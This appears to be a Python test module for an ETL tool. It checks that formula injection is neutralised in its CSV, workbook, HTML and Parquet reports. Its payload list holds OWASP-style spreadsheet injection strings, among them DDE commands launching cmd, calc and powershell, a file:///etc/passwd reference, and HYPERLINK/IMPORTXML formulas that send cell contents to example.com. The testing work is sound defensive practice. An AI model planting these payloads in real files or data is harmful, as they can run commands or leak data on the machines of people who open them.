"""Nothing in a report can act as a formula, whoever wrote it: a cell, a header, the name of a file or sheet, an answer.

The payloads follow OWASP's "CSV Injection" and the collections that grew from it; they are tried in every text column
of a CSV and of a workbook, and what comes out is read as spreadsheet programs read it.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import unicodedata
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fault_runs import NO_WAIT
from fault_server import FaultServer, Seen, reply
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl.cell import WriteOnlyCell
from support import mapping_of, summary_of, write_rows

import etl
from etl.reports.cells import as_it_was, inert

PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!'A1'", "=cmd|'/C powershell'!A1",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(cmd|' /C calc'!A0)", "-2+3+cmd|' /C calc'!D2", "=2+5+cmd|' /C calc'!A0",
    "DDE (\"cmd\";\"/C calc\";\"x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=HYPERLINK("https://example.com/?x="&A1,"click")', '=HYPERLINK("https://example.com";"click")',
    '=IMPORTXML(CONCAT("https://example.com/?",A2),"//a")', '=IMPORTDATA("https://example.com")',
    '=IMPORTFEED("https://example.com")', '=IMPORTHTML("https://example.com","table",1)',
    '=IMPORTRANGE("https://example.com","A1")', '=IMAGE("https://example.com/x.png")',
    "=WEBSERVICE(\"https://example.com\")", "='file:///etc/passwd'#$passwd.A1", "=FILTERXML(A1,\"//a\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u3000=1+1", "\u2003-1+1",
    "\ufeff=1+1", "\u200b=1+1", "\u200e@SUM(1)", "\u2060+1", "\u00ad=1+1", "\x0b=1+1", "\x1f=1+1",
    '"=1+1', '""=1+1', "'=1+1", "''=1+1", "`=1+1", "\u201c=1+1", "\u2018=1+1", "\" =1+1\"",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\ufe661+1", "\ufe621", "\ufe631", "\ufe6bSUM(1)", "\u22121+1",
    ";=1+1", "a;=1+1", "a; =cmd|' /C calc'!A0", "a;\"=1+1\"", ",=1+1", "a,=1+1", 'a",=1+1', 'a";=1+1', "a\n=1+1",
    "a\r\n-1+1", "a\t=1+1", "a\t\t=1+1", "a;\n=1+1", "%0A-1+1", "%3D1+1", "=", "+", "-", "@", "=\"\"", "=A1:A9", "+48601234567",
)  # fmt: skip
"""What OWASP names, and how it is hidden: spaces, quotes, separators, line ends, forms of the signs, what is not seen."""
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212"
UNSEEN = {"Zs", "Zl", "Zp", "Cc", "Cf"}
QUOTES = '\u201c\u2018\u201d\u2019\u201e`"'


def acts(cell: str, *, ends: str = "[;\t\r\n]") -> bool:
    """Tell whether a program for which a cell may end at `ends` can take the cell, or a part of it, for a formula."""
    parts = [cell, *re.split(ends, cell)] if ends else [cell]
    bare = (part.lstrip("".join(c for c in part if unicodedata.category(c) in UNSEEN) + QUOTES) for part in parts)
    return cell[:1] in {"\t", "\r"} or any(part[:1] in SIGNS for part in bare if part)


MAPPING = """\
version: 1
name: hostile
records:
  - action: contact.upsert
    name: people
    fields:
      contact.email: {column: "=E-mail"}
      contact.name: Name
      contact.phone: {column: "@Phone", transform: [{phone: PL}]}
      tags: {column: Tags}
      properties.total: {column: "+Total", transform: [number]}
  - action: event.create
    when: "{Id} is not blank"
    fields:
      email: {column: "=E-mail"}
      contactExtEventType: {value: PURCHASE}
      externalId: Id
"""
HEADER = ("=E-mail", "Name", "@Phone", "Tags", "+Total", "Id")


def rows_of(payloads: tuple[str, ...]) -> list[tuple[str, ...]]:
    found: list[tuple[str, ...]] = []
    for number, text in enumerate(payloads):
        found += [
            (f"p{number}@example.com", text, "", f"{text},x", "", text or "x"),
            (text, text, text, text, text, ""),
        ]
    return found


def hostile(seen: Seen) -> bytes:
    """Answer with payloads where an endpoint has words."""
    payload = PAYLOADS[seen.number % len(PAYLOADS)]
    return reply(400, {"success": False, "message": [payload], "requestId": payload})


@pytest.fixture(scope="module", params=["csv", "xlsx"])
def report(request, tmp_path_factory):
    """Run all payloads, from a CSV or a workbook, against an endpoint that answers with them."""
    folder = tmp_path_factory.mktemp(request.param)
    payloads = (
        PAYLOADS if request.param == "csv" else tuple(p for p in PAYLOADS if not re.search("[\x00-\x08\x0b-\x1f]", p))
    )
    file = folder / f"=1+1.{request.param}"
    if request.param == "csv":
        write_rows(file, [HEADER, *rows_of(payloads)], ",")
    else:
        write_book(file, rows_of(payloads))
    with FaultServer(hostile) as server:
        config = folder / "etl.toml"
        config.write_text(f'[targets.test]\nurl = "{server.url}"\nrate = 10000\nretries = 0\n')
        options = etl.Options(
            out=folder / "out", yes=True, timing=NO_WAIT, canary=0, reports=("csv", "html", "xlsx", "fix", "parquet")
        )
        here = file.relative_to(folder)
        with pytest.MonkeyPatch.context() as patch:
            patch.chdir(folder)
            yield etl.run(mapping_of(MAPPING, folder), [here], target="test", config=config, options=options)


def write_book(path: Path, rows: list[tuple[str, ...]]) -> None:
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("=1+1")
    for row in [HEADER, *rows]:
        cells = [WriteOnlyCell(sheet, value=text) for text in row]
        for cell in cells:
            cell.data_type = "s"
        sheet.append(cells)
    book.save(path)


def cells_of(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_every_payload_would_act():
    found = [payload for payload in PAYLOADS if acts(payload.lstrip("'"), ends="[;,\t\r\n]") or payload[0] in "%D"]
    assert found == list(PAYLOADS)


@pytest.mark.parametrize("name", ["results.csv", "issues.csv"])
def test_no_cell_of_a_report_in_csv_acts(report, name):
    cells = cells_of(report.out / name)
    assert any("cmd|" in cell for cell in cells)
    assert [cell for cell in cells if acts(cell)] == []


def test_what_is_to_be_mended_holds_no_formula(report):
    made = [path for path in report.made if path.name.startswith("to_fix")]
    assert made, report.notes
    for path in made:
        if path.suffix == ".xlsx":
            assert formulas_in(path) == []
        else:
            body = cells_of(path)[len(HEADER) + 1 :]
            # It has the separators of the file that it is a copy of.
            assert [cell for cell in body if acts(cell, ends="")] == []


def test_cells_of_the_annotated_workbook_are_text(report):
    made = [path for path in report.made if path.name.startswith("annotated")]
    assert made, report.notes
    assert [formula for path in made for formula in formulas_in(path)] == []


def formulas_in(path: Path) -> list[str]:
    """Return the formulas of a workbook, of its own ones those that hold words of others."""
    book = openpyxl.load_workbook(path)
    return [
        str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]  # fmt: skip


def test_the_page_shows_payloads_as_text_and_links_to_none(report):
    made = [path for path in report.made if path.suffix == ".html"]
    assert made, report.notes
    page = made[0].read_text("utf-8")
    assert "cmd|" in page
    assert not re.search(r"href=[\"']?(?!#|results\.csv|issues\.csv|data:)[^\"'> ]*[=@+]", page)


def test_parquet_holds_what_was_there_without_apostrophes(report):
    rows = pq.read_table(report.out / "results.parquet")
    lines = rows.to_pylist()
    assert len(lines) == report.rows * report.records
    keys = {line["key"] for line in lines}
    assert {"=1+1", "+1+1", "'=1+1"} <= keys
    assert {line["file"] for line in lines} <= {"=1+1.csv", "=1+1.xlsx"}


def test_the_summary_stays_json(report):
    assert summary_of(report)["files"][0]["file"].startswith("=1+1.")


@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from(" \t\r\n;'\"=+-@\ufeff\uff1d\u2212")))
@example(text="\x80=")
def test_no_text_at_all_acts_once_it_is_inert_and_it_can_be_had_again(text):
    made = inert(pa.array([text]))
    assert not acts(made[0].as_py()) or made[0].as_py()[:1] == "'"
    assert as_it_was(made).to_pylist() == [text]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_inert_by_themselves(payload):
    assert not acts(inert(pa.array([payload]))[0].as_py())


def test_libreoffice_finds_no_formula_though_it_is_told_to_look_for_them(report, tmp_path):
    names = ["results.csv", "issues.csv"]
    for name in names:
        shutil.copy(report.out / name, tmp_path / name)
    write_rows(tmp_path / "control.csv", [("a", "=1+1"), ("a;=2+2", "b")], ",")
    found = as_libreoffice_reads(tmp_path, [*names, "control.csv"])
    assert {name: len(formulas) for name, formulas in found.items()} == {
        "results.csv": 0, "issues.csv": 0, "control.csv": 2
    }  # fmt: skip


def as_libreoffice_reads(folder: Path, names: list[str]) -> dict[str, list[str]]:
    """Return the formulas that it makes of CSV files, with commas, semicolons and tabs taken as separators."""
    told = "CSV:44/59/9,34,76,1,,0,false,false,false,false,false,0,true"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", f"--infilter={told}",
         "--convert-to", "xlsx", "--outdir", str(folder / "read"), *(str(folder / name) for name in names)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return {name: formulas_in(folder / "read" / name.replace(".csv", ".xlsx")) for name in names}
